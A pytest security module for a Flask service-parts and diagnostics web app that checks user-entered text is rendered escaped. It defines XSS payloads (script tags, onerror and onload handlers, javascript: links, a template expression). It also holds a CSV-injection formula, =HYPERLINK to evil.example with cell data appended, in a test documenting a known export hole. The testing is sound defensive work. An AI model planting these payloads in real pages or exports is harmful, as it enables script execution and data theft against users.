"""What people type is shown inert: escaped, or sanitised where Markdown is allowed.

Each free-text field is filled with markup that would run if it reached the page as HTML
(a script element, an event handler, a ``javascript:`` link, a template expression), entered the
way its author enters it (a release file, a tree, the forms), and every page that shows it is
checked: the text is there, escaped, and the page holds no executable markup at all.
"""

from __future__ import annotations

import copy
import csv
import io
import re
from pathlib import Path
from urllib.parse import quote

from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from sqlalchemy.orm import Session

from app.roles import Role
from diagnostics import services as diagnostics
from diagnostics import trees
from tests.conftest import csrf_token
from tests.diagnostics.test_trees import TREE
from tests.factories import PASSWORD
from tests.parts_catalog.releases import write_release, zip_release
from tests.security.conftest import World, inline_code, sign_in

#: A script element, an attribute breakout with a handler, and a template expression.
PAYLOAD = '<script>alert("x")</script>"><img src=x onerror=alert(1)>{{7*191}}'
#: The same idea in 40 characters, for short fields.
SHORT = '"><svg onload=alert(1)>{{7*191}}'
#: Markdown that would make a script link, for the fields rendered as Markdown.
MARKDOWN = PAYLOAD + " [help](javascript:alert(2)) <a href=javascript:alert(3)>x</a>"


def assert_inert(html: str, *shown: str, where: str = "") -> None:
    """``html`` holds no executable markup, evaluated no template, and shows each of
    ``shown`` as text (escaped)."""
    assert inline_code(html) == [], where
    assert "1337" not in html, f"{where}: a template expression was evaluated"
    assert not re.search(r"<(img|svg)\b[^>]*\bon", html), where
    for text in shown:
        assert str(escape(text)) in html, f"{where}: {text!r} is not shown escaped"


def page(client: FlaskClient, url: str, *shown: str, status: int = 200) -> str:
    response = client.get(url)
    assert response.status_code == status, (url, response.status_code)
    assert_inert(response.text, *shown, where=url)
    return response.text


def post(client: FlaskClient, url: str, data: dict[str, object], *, page: str = "/") -> str:
    response = client.post(
        url, data={**data, "csrf_token": csrf_token(client, page)}, follow_redirects=True
    )
    assert response.status_code < 400, (url, response.status_code, response.text[:1000])
    assert_inert(response.text, where=url)
    return response.text


def test_part_model_and_release_texts_from_an_import(
    app: Flask, world: World, tmp_path: Path
) -> None:
    folder = write_release(
        tmp_path / "evil",
        parts=[
            {"part_number": "9-999-000-01", "description": PAYLOAD, "category": SHORT},
            {"part_number": "1-474-594-12", "description": "POWER BOARD (GL2A)"},
        ],
        models=[{"model_number": "KDL-55W800C", "name": PAYLOAD, "chassis": "GN2"}],
        fitments=[
            {
                "model_number": "KDL-55W800C",
                "part_number": "9-999-000-01",
                "ref_no": SHORT[:20],
                "diagram": SHORT,
            }
        ],
    )
    archive = zip_release(folder, tmp_path / "evil.zip")
    engineer = sign_in(app, world.engineer)
    label = '"><b onclick="alert(4)">r2'
    post(
        engineer,
        "/catalog/releases/upload",
        # A delta: the two rows it names change, the rest of the catalogue stays listed.
        {"label": label, "kind": "delta", "files": (io.BytesIO(archive.read_bytes()), "evil.zip")},
        page="/catalog/releases/upload",
    )
    tech = sign_in(app, world.tech_a)
    page(tech, "/catalog/parts/9-999-000-01", PAYLOAD, SHORT)
    page(tech, "/catalog/models/KDL-55W800C", PAYLOAD, SHORT)
    page(tech, "/catalog/releases", label)
    page(tech, f"/catalog/releases/r1/diff/{quote(label, safe='')}", PAYLOAD)
    page(tech, "/search?q=9-999-000-01")
    suggestions = tech.get("/search/suggest?q=9-999-000-01")
    assert suggestions.mimetype == "application/json"  # shown by search.js as text only


def test_tree_texts_in_the_editor_the_walk_and_the_summary(
    app: Flask, session: Session, world: World
) -> None:
    document = copy.deepcopy(TREE)
    document["id"] = "tv-evil"
    document["title"] = PAYLOAD
    document["symptoms"] = [PAYLOAD]
    document["codes"] = ["blink:9"]
    nodes = document["nodes"]
    nodes["count"]["text"] = MARKDOWN
    nodes["count"]["options"] = [
        {"label": SHORT, "next": "psu"},
        {"label": "6", "next": "backlight"},
    ]
    nodes["psu"]["unit"] = SHORT[:20]
    nodes["replace-psu"]["text"] = MARKDOWN
    with app.app_context():
        diagnostics.import_tree(
            session, trees.dump(document), by=world.engineer.email, publish=True
        )
        session.commit()
    engineer = sign_in(app, world.engineer)
    page(engineer, "/authoring/trees/tv-evil")  # the picture's labels are SVG text, escaped
    page(engineer, "/authoring/trees/tv-evil?node=count", MARKDOWN)  # the form's textarea
    page(engineer, "/authoring/trees/tv-evil/try")
    page(engineer, "/authoring")
    tech = sign_in(app, world.tech_a)
    page(tech, "/diagnose/trees/tv-evil", PAYLOAD)
    started = tech.post(
        "/diagnose/start", data={"tree": "tv-evil", "csrf_token": csrf_token(tech, "/diagnose")}
    )
    walk = started.headers["Location"]
    page(tech, walk, SHORT)
    answered = post(tech, walk + "/answer", {"node": "count", "option": SHORT}, page=walk)
    assert_inert(answered, SHORT)
    post(tech, walk + "/answer", {"node": "psu", "value": "10"}, page=walk)
    post(tech, walk + "/feedback", {"fixed": "no", "note": PAYLOAD}, page=walk)
    page(tech, walk + "/summary", SHORT, PAYLOAD)
    page(engineer, "/authoring/trees/tv-evil")  # with the walk's feedback in its figures
    page(tech, "/diagnose?q=" + PAYLOAD[:150] + "&model=" + SHORT, SHORT)


def test_escalation_texts_for_the_author_and_the_agents(app: Flask, world: World) -> None:
    tech = sign_in(app, world.tech_a)
    token = csrf_token(tech, "/escalations/new")
    sent = tech.post(
        "/escalations/new",
        data={
            "csrf_token": token,
            "key": "xss",
            "subject": PAYLOAD,
            "description": MARKDOWN,
            "category": "technical",
            "model_number": SHORT,
            "serial": SHORT,
            "priority": "normal",
        },
    )
    assert sent.status_code == 201, sent.text[:2000]
    assert_inert(sent.text, where="received page")
    reference = re.search(r"ESC-\d{4}-\d{6}", sent.text).group(0)  # type: ignore[union-attr]
    ticket = f"/escalations/{reference}"
    page(tech, ticket, PAYLOAD, MARKDOWN, SHORT)
    agent = sign_in(app, world.agent)
    page(agent, ticket, PAYLOAD, MARKDOWN)
    page(agent, "/escalations", PAYLOAD)
    page(agent, "/escalations?product_line=" + SHORT + "&tier=tier1")
    post(agent, ticket + "/reply", {"text": MARKDOWN, "action": "reply"}, page=ticket)
    post(agent, ticket + "/reply", {"text": PAYLOAD, "action": "note"}, page=ticket)
    page(tech, ticket, MARKDOWN)
    page(agent, ticket, PAYLOAD)
    page(agent, "/escalations/dashboard")
    # A draft kept on the server comes back into the form as text.
    tech.post("/escalations/draft", json={"subject": PAYLOAD}, headers={"X-CSRFToken": token})
    page(tech, "/escalations/new", PAYLOAD)


def test_order_references_jobs_and_return_notes(app: Flask, world: World) -> None:
    tech = sign_in(app, world.tech_a)
    placed = post(
        tech,
        "/orders/cart/place",
        {"key": "xss", "kind": "warranty", "reference": PAYLOAD, "job": SHORT},
        page="/orders/cart",
    )
    assert_inert(placed, PAYLOAD, SHORT)
    page(tech, "/orders", PAYLOAD)
    item = world.delivered.lines[0].items[0]
    url = f"/orders/{world.delivered.id}"
    post(
        tech,
        url + "/returns",
        {"item": str(item.id), "quantity": "1", "reason": "wrong_part", "note": PAYLOAD},
        page=url,
    )
    admin = sign_in(app, world.admin)
    page(admin, "/orders/returns", PAYLOAD)
    post(
        admin,
        f"/orders/returns/{world.return_request.id}",
        {"decision": "refused", "note": SHORT},
        page="/orders/returns",
    )
    page(tech, url, SHORT)
    pasted = tech.post(
        "/orders/cart/paste",
        data={"text": PAYLOAD + ", 1\n" + SHORT, "csrf_token": csrf_token(tech, "/orders/cart")},
    )
    assert_inert(pasted.text, where="paste")
    added = post(tech, "/orders/cart/add", {"number": SHORT, "quantity": "1"}, page="/orders/cart")
    assert_inert(added, SHORT)


def test_order_export_does_not_hand_a_formula_to_a_spreadsheet(app: Flask, world: World) -> None:
    """HOLE (app/orders/routes.py ``export``): a reference such as ``=HYPERLINK(...)`` is written
    to orders.csv as it was typed, and a spreadsheet opening the export runs it as a formula
    (CSV injection, OWASP). Cells that start with = + - @ (or a tab or carriage return) should be
    prefixed with a ' so that they stay text."""
    tech = sign_in(app, world.tech_a)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    tech.post(
        "/orders/cart/place",
        data={
            "key": "csv",
            "kind": "paid",
            "reference": formula,
            "csrf_token": csrf_token(tech, "/orders/cart"),
        },
    )
    rows = list(csv.DictReader(io.StringIO(tech.get("/orders/export.csv").text)))
    references = {row["reference"] for row in rows}
    assert formula not in references
    assert "'" + formula in references


def test_people_centres_and_synonyms(app: Flask, session: Session, world: World) -> None:
    admin = sign_in(app, world.admin)
    post(admin, "/admin/centres", {"name": SHORT}, page="/admin/centres")
    page(admin, "/admin/centres", SHORT)
    post(
        admin,
        "/admin/invitations/new",
        {
            "email": "evil@example.com",
            "name": PAYLOAD,
            "role": "technician",
            "centre": str(world.centre_a.id),
        },
        page="/admin/invitations/new",
    )
    page(admin, "/admin/users")
    world.invitation.name = PAYLOAD
    session.commit()
    page(app.test_client(), f"/invitations/{world.invitation_token}", PAYLOAD)
    newcomer = app.test_client()
    welcome = newcomer.post(
        f"/invitations/{world.invitation_token}",
        data={
            "name": PAYLOAD,
            "password": PASSWORD + "!",
            "confirm": PASSWORD + "!",
            "csrf_token": csrf_token(newcomer, f"/invitations/{world.invitation_token}"),
        },
        follow_redirects=True,
    )
    assert_inert(welcome.text, PAYLOAD, where="welcome")  # flash and the header's name
    page(admin, "/admin/users", PAYLOAD)
    engineer = sign_in(app, world.engineer)
    added = post(
        engineer,
        "/search/synonyms",
        {"words": SHORT, "means": PAYLOAD[:120]},
        page="/search/synonyms",
    )
    assert_inert(added, SHORT)
    page(engineer, "/search/synonyms", SHORT, PAYLOAD[:120])
    tech = sign_in(app, world.tech_a)
    post(
        tech,
        "/catalog/fitments/report",
        {"part_number": "1-474-594-11", "model_number": "KDL-55W800C", "note": PAYLOAD},
        page="/catalog/parts/1-474-594-11",
    )
    page(engineer, "/catalog/errata", PAYLOAD)


def test_search_words_echoed_on_pages(app: Flask, world: World) -> None:
    tech = sign_in(app, world.tech_a)
    for url, shown in (
        ("/search?q=" + PAYLOAD, PAYLOAD),
        ("/search?q=" + PAYLOAD + "&kind=" + SHORT + "&category=" + SHORT, PAYLOAD),
        ("/search?q=x&model=" + SHORT + "&product_line=" + SHORT + "&status=" + SHORT, None),
        ("/diagnose?model=" + SHORT, SHORT),
        ("/escalations/new?session=" + SHORT, None),
        ("/catalog/parts/1-474-594-11?as_of=r1&serial=" + SHORT, SHORT),
    ):
        page(tech, url, *([shown] if shown else []))
    lookup = tech.get("/catalog/lookup?q=" + SHORT)
    assert lookup.status_code == 404
    assert_inert(lookup.text, SHORT, where="lookup")
    anonymous = app.test_client()
    page(anonymous, "/login?next=" + SHORT)
    assert_inert(anonymous.get("/catalog/parts/" + SHORT, follow_redirects=True).text)


def test_api_answers_are_json_never_html(app: Flask, world: World) -> None:
    tech = sign_in(app, world.tech_a)
    for url in (
        "/api/v1/parts/" + SHORT,
        "/api/v1/search?q=" + PAYLOAD,
        f"/api/v1/escalations/{world.ticket.reference}",
    ):
        response = tech.get(url)
        assert response.mimetype == "application/json", url
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_roles_render_their_menu_label_escaped(app: Flask, world: World) -> None:
    # The one place a role's label reaches the page is fixed text; a user's name is not.
    tech = sign_in(app, world.tech_a)
    html = tech.get("/").text
    assert Role.TECHNICIAN.label in html
    assert_inert(html)
